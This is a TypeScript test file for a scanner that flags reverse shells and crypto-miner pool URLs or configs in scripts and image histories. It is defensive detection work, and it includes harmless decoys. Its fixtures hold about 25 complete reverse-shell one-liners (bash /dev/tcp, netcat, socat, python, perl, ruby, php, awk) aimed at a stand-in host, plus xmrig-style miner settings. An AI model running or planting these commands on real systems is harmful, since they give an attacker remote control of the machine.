/**
 * Fixtures are assembled from pieces (`DEV_TCP`, `BASH`…) so that no source file holds a
 * reverse-shell one-liner verbatim: endpoint protection on developer machines flags them.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isScriptPath, MAX_INDICATOR_HITS, scanCommand, scanIndicators } from './indicators.js';

const DEV_TCP = ['', 'dev', 'tcp'].join('/');
const BIN_SH = ['', 'bin', 'sh'].join('/');
const BASH = ['ba', 'sh'].join('');
const H = '10.0.0.1';
const STRATUM = ['stratum', '+tcp://'].join('');

const ids = (hits: { id: string }[]) => hits.map((h) => h.id);
const script = (body: string, path = 'usr/local/bin/run.sh') => scanIndicators(Buffer.from(body), path);

/** Each of these is a reverse shell, one per line of a script. */
const SHELLS: Record<string, string> = {
  'bash -i >& dev-tcp': `${BASH} -i >& ${DEV_TCP}/${H}/4242 0>&1`,
  'sh -i, udp': `sh -i >& ${DEV_TCP.replace('tcp', 'udp')}/${H}/4242 0>&1`,
  'bash -l > 0<&1': `/bin/${BASH} -l > ${DEV_TCP}/${H}/4242 0<&1 2>&1`,
  'bash -c wrapper': `${BASH} -c '${BASH} -i >& ${DEV_TCP}/${H}/4242 0>&1'`,
  'commands from the socket': `${BASH} < ${DEV_TCP}/${H}/80`,
  'exec fd + sh <&fd': `0<&196;exec 196<>${DEV_TCP}/${H}/4242; sh <&196 >&196 2>&196`,
  'exec fd | sh': `exec 5<>${DEV_TCP}/${H}/4242; cat <&5 | ${BIN_SH} 2>&5 >&5`,
  'exec fd while read': `exec 5<>${DEV_TCP}/${H}/4242;cat <&5 | while read line; do $line 2>&5 >&5; done`,
  'nc -e': `nc -e ${BIN_SH} ${H} 4242`,
  'ncat … -e bash': `ncat ${H} 4242 -e /bin/${BASH}`,
  'nc.traditional -c': `nc.traditional -c ${BASH} ${H} 4242`,
  'busybox nc': `busybox nc ${H} 4242 -e sh`,
  'ncat --sh-exec': `ncat --sh-exec '${BASH}' ${H} 4242`,
  'mkfifo | sh | nc': `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|${BIN_SH} -i 2>&1|nc ${H} 4242 >/tmp/f`,
  'mknod backpipe': `mknod /tmp/bp p && ${BIN_SH} 0</tmp/bp | nc ${H} 4242 1>/tmp/bp`,
  'mkfifo openssl': `mkfifo /tmp/s; ${BIN_SH} -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${H}:4242 > /tmp/s`,
  'telnet sandwich': `telnet ${H} 4444 | ${BIN_SH} | telnet ${H} 4445`,
  'socat exec tcp': `socat TCP:${H}:4242 EXEC:${BIN_SH}`,
  'socat exec pty': `socat exec:'${BASH} -li',pty,stderr,setsid,sigint,sane tcp-connect:${H}:4242`,
  'python dup2 subprocess': `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${H}",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["${BIN_SH}","-i"])'`,
  'python3 pty': `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("${H}",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
  'perl socket': `perl -e 'use Socket;$i="${H}";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("${BIN_SH} -i");};'`,
  'ruby TCPSocket': `ruby -rsocket -e'f=TCPSocket.open("${H}",4242).to_i;exec sprintf("${BIN_SH} -i <&%d >&%d 2>&%d",f,f,f)'`,
  'php fsockopen': `php -r '$sock=fsockopen("${H}",4242);exec("${BIN_SH} -i <&3 >&3 2>&3");'`,
  'gawk inet': `awk 'BEGIN {s = "/inet/tcp/0/${H}/4242"; while(42) { printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null`,
};

/** None of these hands a shell to a socket. */
const DECOYS: Record<string, string> = {
  'dev-tcp health check': `exec 3<>${DEV_TCP}/localhost/8080; echo -e "GET / HTTP/1.0\\r\\n" >&3; cat <&3`,
  'dev-tcp port probe': `timeout 1 ${BASH} -c 'cat < /dev/null > ${DEV_TCP}/db/5432' && echo up`,
  'bash -c port probe': `${BASH} -c "</dev/tcp/redis/6379"`,
  'nc -z': `nc -z ${H} 4242 && echo open`,
  'nc with a file': `nc -w 3 ${H} 25 < mail.txt`,
  'socat forward': `socat TCP-LISTEN:8080,fork,reuseaddr TCP:backend:80`,
  'ssh -e': `ssh -e none user@host sh -c true`,
  'python socket server': `s = socket.socket(); s.bind(("0.0.0.0", 8080)); s.listen(5)`,
  'shell script name': `nc -e ./deploy.sh.log ${H} 1 # not a shell`,
  'echo mkfifo': `mkfifo /tmp/pipe; cat /tmp/pipe | gzip > out.gz`,
};

describe('scanIndicators: reverse shells', () => {
  for (const [name, line] of Object.entries(SHELLS)) {
    it(`finds ${name}`, () => {
      const hits = script(`#!/bin/sh\nset -e\n${line}\n`, 'opt/x');
      assert.deepEqual(ids(hits), ['reverse-shell'], line);
      assert.equal(hits[0]?.line, 3);
      assert.equal(hits[0]?.severity, 'critical');
      assert.equal(hits[0]?.engine, 'builtin');
      assert.ok((hits[0]?.evidence ?? '').length <= 120);
    });
  }

  for (const [name, line] of Object.entries(DECOYS)) {
    it(`ignores ${name}`, () => assert.deepEqual(script(`${line}\n`), []));
  }

  it('finds the multi-line python script form, not sockets without a shell', () => {
    const py = [
      'import socket, subprocess, os',
      's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      `s.connect(("${H}", 4242))`,
      'os.dup2(s.fileno(), 0)',
      'os.dup2(s.fileno(), 1)',
      `p = subprocess.call(["${BIN_SH}", "-i"])`,
    ].join('\n');
    const hits = script(py, 'tmp/x.py');
    assert.deepEqual(ids(hits), ['reverse-shell']);
    assert.equal(hits[0]?.line, 6);
    const far = [py.split('\n').slice(0, 5).join('\n'), ...Array(20).fill('pass'), `os.system("${BIN_SH}")`];
    assert.deepEqual(script(far.join('\n'), 'tmp/x.py'), [], 'shell too far from the socket');
  });

  it('applies only to scripts: shebang, extension, cron/init/profile paths', () => {
    const line = `${SHELLS['nc -e']}\n`;
    assert.deepEqual(scanIndicators(Buffer.from(line), 'usr/share/doc/cheatsheet.txt'), []);
    for (const path of [
      'etc/cron.d/job',
      'etc/crontab',
      'var/spool/cron/crontabs/root',
      'etc/init.d/svc',
      'etc/rc.local',
      'etc/profile.d/x',
      'root/.bashrc',
      'app/run.PY',
    ]) {
      assert.deepEqual(ids(scanIndicators(Buffer.from(line), path)), ['reverse-shell'], path);
    }
    assert.ok(isScriptPath('/etc/systemd/system/x.service'));
    assert.ok(!isScriptPath('etc/hosts'));
  });

  it('scanCommand reads a history created_by, columns in bytes', () => {
    const cmd = `/bin/sh -c #(nop) CMD ["/bin/sh" "-c" "é ${SHELLS['bash -i >& dev-tcp']}"]`;
    const [hit] = scanCommand(cmd);
    assert.equal(hit?.id, 'reverse-shell');
    assert.equal(hit?.column, Buffer.byteLength(cmd.slice(0, cmd.indexOf(BASH))) + 1);
    assert.deepEqual(scanCommand('RUN apt-get install -y netcat-openbsd'), []);
    const miner = scanCommand(`RUN ./xmrig -o ${STRATUM}pool.example:3333 -u 4AbC -p x`);
    assert.deepEqual(ids(miner), ['miner-pool-url']);
  });

  it('evidence is the command from the match on, at most 120 characters', () => {
    const line = SHELLS['bash -i >& dev-tcp'] ?? '';
    assert.equal(script(`  ${line}\n`)[0]?.evidence, line);
    const fd = script(`${SHELLS['exec fd | sh']}\n`)[0];
    assert.equal(fd?.evidence, SHELLS['exec fd | sh']?.slice(SHELLS['exec fd | sh']?.indexOf(DEV_TCP)));
    const long = script(`${SHELLS['python dup2 subprocess']}\n`, 'x.py')[0]?.evidence ?? '';
    assert.ok(long.length === 120 && long.endsWith('...'), long);
  });
});

describe('scanIndicators: crypto-miners', () => {
  it('finds pool URLs in any text file, once per pool, without user info', () => {
    const text = [
      'pools:',
      `  - url: ${STRATUM}pool.minexmr.com:4444`,
      `  - url: ${STRATUM}pool.minexmr.com:4444`,
      `  - url: ${STRATUM.replace('tcp', 'ssl')}44AFFq5kSiGBoZ:secret@xmr.pool.example:443`,
      `  - ${STRATUM.replace('+tcp', '2+tcp')}eu.example.org`,
    ].join('\n');
    const hits = scanIndicators(Buffer.from(text), 'opt/app/miner.yaml');
    assert.deepEqual(
      hits.map((h) => [h.id, h.line, h.evidence]),
      [
        ['miner-pool-url', 2, 'stratum+tcp://pool.minexmr.com:4444'],
        ['miner-pool-url', 4, 'stratum+ssl://xmr.pool.example:443'],
        ['miner-pool-url', 5, 'stratum2+tcp://eu.example.org'],
      ],
    );
    assert.ok(!JSON.stringify(hits).includes('secret'));
    assert.equal(hits[0]?.column, 10);
    assert.equal(hits[0]?.severity, 'high');
  });

  it('finds an xmrig-style config by its rule, not a config with only "pools"', () => {
    const cfg = (extra: string) =>
      Buffer.from(`{\n  "autosave": true,\n  "pools": [ { "url": "x:1" } ],\n${extra}\n}`);
    for (const extra of [
      '"donate-level": 1',
      '"randomx": { "init": -1 }',
      '"algo": "rx/0"',
      '"algo": "cryptonight"',
      '"coin": "monero"',
    ]) {
      const hits = scanIndicators(cfg(extra), 'root/.xmrig.json');
      assert.deepEqual(ids(hits), ['miner-config'], extra);
      assert.equal(hits[0]?.line, 3);
      assert.equal(hits[0]?.column, 3);
    }
    for (const extra of ['"algo": "sha256"', '"coin": "bitcoin"', '"donate-level": "x"', '"threads": 4']) {
      assert.deepEqual(scanIndicators(cfg(extra), 'etc/app.json'), [], extra);
    }
  });

  it('skips binary files and caps hits', () => {
    const bin = Buffer.concat([Buffer.from(`${STRATUM}a.b:1\n`), Buffer.from([0])]);
    assert.deepEqual(scanIndicators(bin, 'usr/bin/xmrig'), []);
    const many = Array.from({ length: 300 }, (_, i) => `${STRATUM}p${i}.example:3333`).join('\n');
    assert.equal(scanIndicators(Buffer.from(many), 'x.txt').length, MAX_INDICATOR_HITS);
  });

  it('finds matches across window boundaries of a long line', () => {
    for (const pad of [8 * 1024 - 20, 8 * 1024 - 5, 7 * 1024 + 3, 50_000]) {
      const line = `${'x'.repeat(pad)} ${STRATUM}pool.example:3333 ${'y'.repeat(100)}`;
      const hits = scanIndicators(Buffer.from(line), 'a.txt');
      assert.deepEqual(
        hits.map((h) => [h.line, h.column]),
        [[1, pad + 2]],
        `pad ${pad}`,
      );
    }
  });
});
